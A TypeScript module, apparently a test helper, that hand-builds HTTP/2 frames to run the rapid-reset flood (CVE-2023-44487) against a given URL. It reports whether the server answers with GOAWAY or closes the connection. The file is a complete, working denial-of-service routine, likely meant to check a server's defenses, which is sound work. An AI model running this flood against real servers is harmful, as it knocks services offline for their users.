// An HTTP/2 client that does what an attacker does and Node's client never would: write HEADERS and
// RST_STREAM for stream after stream without waiting for anything (rapid reset, CVE-2023-44487).
// Frames are written by hand (RFC 9113 §4.1) with HPACK literals (RFC 7541 §6.2.2), so the server
// sees the flood at wire speed, not as Node's client paces it by the stream limit.
import { connect } from 'node:tls';

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header block of literals without indexing; names and values under 127 bytes. */
function hpack(headers: readonly (readonly [string, string])[]): Buffer {
  const parts: Buffer[] = [];
  for (const [name, value] of headers) parts.push(Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value));
  return Buffer.concat(parts);
}

export interface FloodOutcome {
  /** Streams opened and reset before the server stopped reading or the count was reached. */
  readonly sent: number;
  /** The error code of the first GOAWAY the server sent, if it sent one. */
  readonly goaway: number | undefined;
  /** Whether the server closed the connection (rather than the flood ending and this client hanging up). */
  readonly closed: boolean;
}

/** Open `count` streams to `path`, resetting each at once (CANCEL), in batches; stop early when the server cuts the connection. */
export function rapidReset(url: string, ca: Buffer, path: string, count: number): Promise<FloodOutcome> {
  const { hostname, port, host } = new URL(url);
  return new Promise((resolve) => {
    let goaway: number | undefined;
    let closed = false;
    let hungUp = false;
    let sent = 0;
    let received = Buffer.alloc(0);
    const socket = connect({ host: hostname, port: Number(port), ca, ALPNProtocols: ['h2'], servername: hostname === '127.0.0.1' ? undefined : hostname });
    socket.on('error', () => undefined);
    const finish = () => resolve({ sent, goaway, closed });
    socket.on('close', () => {
      closed = !hungUp;
      finish();
    });
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        const type = received[3] as number;
        const flags = received[4] as number;
        if (type === 4 && (flags & 1) === 0) socket.write(frame(4, 1, 0, Buffer.alloc(0)));
        if (type === 7) goaway ??= received.readUInt32BE(9 + 4);
        received = received.subarray(9 + length);
      }
    });
    socket.once('secureConnect', () => {
      socket.write(Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'));
      socket.write(frame(4, 0, 0, Buffer.alloc(0)));
      const block = hpack([
        [':method', 'GET'],
        [':scheme', 'https'],
        [':authority', host],
        [':path', path],
      ]);
      const cancel = Buffer.alloc(4);
      cancel.writeUInt32BE(8);
      let stream = 1;
      const batch = () => {
        if (closed || socket.destroyed || sent >= count) {
          if (!closed)
            setTimeout(() => {
              hungUp = true;
              socket.destroy();
            }, 200);
          return;
        }
        const frames: Buffer[] = [];
        for (let i = 0; i < 100 && sent < count; i++, sent++, stream += 2) frames.push(frame(1, 5, stream, block), frame(3, 0, stream, cancel));
        // Wait for the socket to take the batch: a server that stops reading holds the flood back.
        if (socket.write(Buffer.concat(frames))) setImmediate(batch);
        else socket.once('drain', batch);
      };
      batch();
    });
  });
}
